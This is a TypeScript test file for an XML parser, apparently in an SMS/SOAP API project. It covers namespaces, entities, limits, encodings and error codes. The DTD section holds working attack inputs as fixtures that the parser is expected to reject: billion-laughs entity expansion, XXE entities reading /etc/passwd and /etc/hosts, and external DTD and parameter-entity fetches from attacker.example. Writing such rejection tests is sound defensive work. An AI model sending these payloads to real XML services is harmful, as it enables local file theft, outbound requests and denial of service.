import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  parseXml,
  XmlDtdError,
  type XmlElement,
  XmlSyntaxError,
  XSI_NAMESPACE,
  xmlAttribute,
} from '../../../src/api/formats/xml.js';
import { ValidationError } from '../../../src/core/errors.js';
import { sampleBodies, seed } from './seeds.js';

const DTO_NS = 'http://schemas.datacontract.org/2004/07/digitaluapi.ServiceModel';
const SOAP_ENV = 'http://schemas.xmlsoap.org/soap/envelope/';

function refusal(input: string | Uint8Array, options?: Parameters<typeof parseXml>[1]): XmlSyntaxError {
  let caught: unknown;
  try {
    parseXml(input, options);
  } catch (error) {
    caught = error;
  }
  assert.ok(caught instanceof XmlSyntaxError, `expected an XmlSyntaxError, got ${caught}`);
  assert.ok(caught instanceof ValidationError);
  assert.equal(caught.status, 400);
  return caught;
}

function dtdRefusal(input: string | Uint8Array): void {
  const error = refusal(input);
  assert.ok(error instanceof XmlDtdError, `expected XmlDtdError, got ${error.name}: ${error.message}`);
  assert.equal(error.code, 'xml_dtd_prohibited');
  assert.match(error.message, /DTD is prohibited/);
}

function child(element: XmlElement, name: string): XmlElement {
  const found = element.children.find((c) => c.name === name);
  assert.ok(found, `no <${name}> in <${element.name}>`);
  return found;
}

describe('parseXml: trees and namespaces', () => {
  it('reads seed 000 request sample into a namespace-resolved tree', () => {
    const root = parseXml(sampleBodies(seed('000'))[0]!);
    assert.equal(root.name, 'SendSmsRequest');
    assert.equal(root.ns, DTO_NS);
    assert.equal(root.prefix, '');
    assert.deepEqual(root.attrs, [], 'namespace declarations are not attributes');
    const message = child(child(root, 'Messages'), 'SmsMessage');
    assert.equal(message.ns, DTO_NS, 'the default namespace is inherited');
    assert.deepEqual(
      message.children.map((c) => [c.name, c.text]),
      [
        ['channel', 'String'],
        ['clientMessageId', 'String'],
        ['content', 'String'],
        ['to', 'String'],
      ],
    );
    assert.match(message.text, /^\s+$/, 'indentation is kept as the text of a container');
  });

  it('reads the SOAP samples of seed 004 (prefixes, comments, empty elements)', () => {
    const page = seed('004');
    const request = parseXml(/<soapenv:Envelope.*?<\/soapenv:Envelope>/s.exec(page)![0]);
    assert.equal(request.name, 'Envelope');
    assert.equal(request.ns, SOAP_ENV);
    assert.equal(request.prefix, 'soapenv');
    const call = child(child(request, 'Body'), 'CampaignSMSRequest');
    assert.equal(call.ns, 'http://com/jacada/interact/agent/soap');
    assert.deepEqual(
      call.children.map((c) => [c.prefix, c.name, c.text]),
      [
        ['soap', 'campaignId', 'camp 1'],
        ['soap', 'additionalParams', 'Variable1=Value1'],
        ['soap', 'callerId', '+972548120901'],
        ['soap', 'from', ''],
        ['soap', 'sendFromMasterAccount', 'false'],
        ['soap', 'jpToken', 'Aejhib7'],
      ],
    );
    const fault = parseXml(
      /<SOAP-ENV:Envelope[^|]*?<SOAP-ENV:Fault>.*?<\/SOAP-ENV:Envelope>/s.exec(page)![0],
    );
    const faultElement = child(child(fault, 'Body'), 'Fault');
    assert.equal(faultElement.ns, SOAP_ENV);
    assert.equal(
      child(faultElement, 'faultcode').ns,
      '',
      'unprefixed children of a prefixed element have no namespace',
    );
    assert.equal(
      child(faultElement, 'faultstring').text,
      'Request is unauthorized, missing or wrong credentials',
    );
  });

  it('resolves attribute namespaces: prefixed ones take their URI, unprefixed ones none', () => {
    const root = parseXml(
      `<a xmlns="urn:d" xmlns:i="${XSI_NAMESPACE}" xmlns:p="urn:p" x="1" p:y="2"><b i:nil="true"/></a>`,
    );
    assert.deepEqual(root.attrs, [
      { name: 'x', ns: '', prefix: '', value: '1' },
      { name: 'y', ns: 'urn:p', prefix: 'p', value: '2' },
    ]);
    assert.equal(xmlAttribute(root, 'x'), '1');
    assert.equal(xmlAttribute(root, 'y', 'urn:p'), '2');
    assert.equal(xmlAttribute(root, 'y'), undefined);
    assert.equal(xmlAttribute(root.children[0]!, 'nil', XSI_NAMESPACE), 'true');
  });

  it('lets an inner declaration rebind a prefix and the default namespace', () => {
    const root = parseXml('<p:a xmlns:p="urn:1"><p:b xmlns:p="urn:2"><c xmlns="urn:3"/></p:b><p:d/></p:a>');
    const b = root.children[0]!;
    assert.deepEqual(
      [root.ns, b.ns, b.children[0]!.ns, root.children[1]!.ns],
      ['urn:1', 'urn:2', 'urn:3', 'urn:1'],
    );
  });

  it('resolves the five predefined entities and character references, keeps CDATA, drops comments and PIs', () => {
    const root = parseXml(
      '<?xml version="1.0"?><?app hint?><a>&lt;&gt;&amp;&quot;&apos; &#65;&#x42;&#x1F600; <![CDATA[<raw & text>]]><!-- gone --></a>',
    );
    assert.equal(root.text, `<>&"' AB😀 <raw & text>`);
    assert.deepEqual(root.children, []);
  });

  it('keeps whitespace and normalises line ends as XML requires', () => {
    assert.equal(parseXml('<a>  x\r\ny\rz  </a>').text, '  x\ny\nz  ');
    assert.equal(parseXml('<a>&#xD;</a>').text, '\r', 'an escaped CR survives');
  });
});

describe('parseXml: refusing DTDs', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<lolz>&lol9;</lolz>`;
  const cases: [string, string][] = [
    ['billion laughs', billionLaughs],
    ['an external entity (XXE)', '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>'],
    ['an external DTD', '<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>'],
    ['a public DTD', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x.dtd"><html/>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><a/>'],
    ['a plain DOCTYPE', '<!DOCTYPE a><a/>'],
    ['an unterminated DOCTYPE', '<!DOCTYPE a [<!ENTITY x "y">'],
    ['a lowercase doctype', '<!doctype a><a/>'],
    ['a DOCTYPE inside the root', '<a><!DOCTYPE a></a>'],
    ['a DOCTYPE after the root', '<a/><!DOCTYPE a>'],
    ['an ENTITY declaration outside a DOCTYPE', '<!ENTITY x "y"><a>&x;</a>'],
    [
      'a SOAP envelope with an XXE',
      `<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/hosts">]><e:Envelope xmlns:e="${SOAP_ENV}"><e:Body>&x;</e:Body></e:Envelope>`,
    ],
  ];
  for (const [name, xml] of cases) {
    it(`refuses ${name}`, () => dtdRefusal(xml));
  }

  it('refuses a DOCTYPE in binary UTF-8 and UTF-16 input too', () => {
    dtdRefusal(Buffer.from(billionLaughs));
    dtdRefusal(Buffer.from(`\ufeff${billionLaughs}`, 'utf16le'));
  });

  it('refuses an undeclared entity as a plain syntax error', () => {
    const error = refusal('<a>&xxe;</a>');
    assert.ok(!(error instanceof XmlDtdError));
    assert.match(error.message, /undefined entity/);
  });

  it('does not mistake DOCTYPE text inside CDATA or a comment for a DTD', () => {
    assert.equal(parseXml('<a><![CDATA[<!DOCTYPE x>]]><!-- <!ENTITY y "z"> --></a>').text, '<!DOCTYPE x>');
  });
});

describe('parseXml: malformed input and limits', () => {
  const bad: [string, RegExp][] = [
    ['', /root element/],
    ['   ', /root element/],
    ['just text', /text data outside of root node|root element/],
    ['<a>', /unclosed tag/],
    ['<a></b>', /unexpected close tag/],
    ['<a><b></a></b>', /unexpected close tag/],
    ['<a/><b/>', /only one root/],
    ['<a/>tail', /text data outside of root node/],
    ['<p:a/>', /unbound namespace prefix/],
    ['<a x="1" x="2"/>', /duplicate attribute/],
    ['<a x=1/>', /unquoted attribute value/],
    ['<a>]]></a>', /"]]>" is disallowed/],
    ['<a>&#0;</a>', /malformed character entity/],
    ['<a>&#xD800;</a>', /malformed character entity/],
    ['<a>&;</a>', /empty entity name/],
    ['<a>&amp x</a>', /unclosed tag/],
    ['<a>\u0001</a>', /disallowed character/],
    ['<a xmlns:p=""/>', /undefine prefix/],
    ['<1a/>', /disallowed character|syntax/],
  ];
  for (const [xml, pattern] of bad) {
    it(`refuses ${JSON.stringify(xml)}`, () => {
      const error = refusal(xml);
      assert.equal(error.code, 'invalid_xml');
      assert.match(error.message, /^Invalid XML at line \d+, column \d+: /);
      assert.match(error.message, pattern);
    });
  }

  it('limits depth (default 64, configurable)', () => {
    const nested = (levels: number) => `${'<a>'.repeat(levels)}${'</a>'.repeat(levels)}`;
    assert.equal(parseXml(nested(64)).name, 'a');
    const error = refusal(nested(65));
    assert.equal(error.code, 'xml_too_deep');
    assert.match(error.message, /deeper than the limit of 64 levels/);
    assert.equal(refusal(nested(3), { maxDepth: 2 }).code, 'xml_too_deep');
    assert.equal(refusal(nested(100_000)).code, 'xml_too_deep');
  });

  it('limits size in characters for text and bytes for binary input', () => {
    const xml = `<a>${'x'.repeat(100)}</a>`;
    assert.equal(parseXml(xml, { maxLength: xml.length }).text.length, 100);
    assert.equal(refusal(xml, { maxLength: xml.length - 1 }).code, 'xml_too_large');
    const bytes = Buffer.from('<a>ééé</a>');
    assert.equal(parseXml(bytes, { maxLength: bytes.length }).text, 'ééé');
    assert.match(refusal(bytes, { maxLength: bytes.length - 1 }).message, /limit of 12 bytes/);
    assert.equal(refusal(`<a>${'x'.repeat(1024 * 1024)}</a>`).code, 'xml_too_large');
  });

  it('reads UTF-8 (BOM or not) and UTF-16 with a BOM; refuses invalid bytes and other encodings', () => {
    assert.equal(parseXml(Buffer.from('<a>é😀</a>')).text, 'é😀');
    assert.equal(parseXml(Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-8"?><a>é</a>')).text, 'é');
    assert.equal(
      parseXml(Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><a>é</a>', 'utf16le')).text,
      'é',
    );
    const be = Buffer.from('\ufeff<a>é</a>', 'utf16le').swap16();
    assert.equal(parseXml(be).text, 'é');
    assert.equal(parseXml('\ufeff<a>é</a>').text, 'é', 'a BOM in text input is skipped');
    assert.match(
      refusal(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e])).message,
      /not valid UTF-8/,
    );
    const latin1 = refusal(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a/>'));
    assert.equal(latin1.code, 'xml_unsupported_encoding');
    assert.match(latin1.message, /ISO-8859-1/);
    assert.equal(
      refusal(Buffer.from('<?xml version="1.0" encoding="utf-16"?><a/>')).code,
      'xml_unsupported_encoding',
    );
    // Text is already decoded: its declaration's label is not consulted.
    assert.equal(parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>').text, 'é');
  });

  it('refuses input that is neither text nor bytes with its own error', () => {
    refusal(42 as unknown as string);
    refusal(null as unknown as string);
  });
});
